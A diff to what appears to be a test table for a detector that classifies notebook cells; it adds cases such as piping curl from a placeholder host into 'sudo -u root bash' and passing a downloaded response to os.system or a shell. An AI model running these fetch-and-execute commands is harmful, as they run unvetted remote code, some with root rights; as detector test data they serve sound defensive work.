@@ -231,6 +231,7 @@ CELLS = {
     "!curl https://e.example/i.sh | tee i.sh; cat i.sh | sh": SHELL_URL,
     "!curl https://e.example -o i.sh && sh < i.sh": SHELL_URL,
     "!curl https://e.example | sudo -E bash": SHELL_URL,
+    "!curl https://e.example | sudo -u root bash -s -- -y": SHELL_URL,
     "!curl https://e.example | env A=1 bash": SHELL_URL,
     "!curl https://e.example | A=1 nice -n 10 sh": SHELL_URL,
     "!curl https://e.example | timeout 60 bash -e": SHELL_URL,
@@ -252,6 +253,9 @@ CELLS = {
     "import subprocess\nsubprocess.run(['sh', '-c', 'curl https://e.example | sh'])":
         SHELL_URL,
     "c = 'curl https://e.example | sh'\nimport os\nos.system(c)": SHELL_URL,
+    "import os, requests\nos.system(requests.get(u).text)": SHELL_URL,
+    "import subprocess, requests\n"
+    "subprocess.run('sh', input=requests.get(u).text, text=True)": SHELL_URL,
     "import subprocess\nexec(subprocess.check_output(['curl', u]))":
         "This cell runs code from a URL and runs a shell.",
     "from urllib.request import urlretrieve\nurlretrieve(u, 'x.py')\n%run x.py":
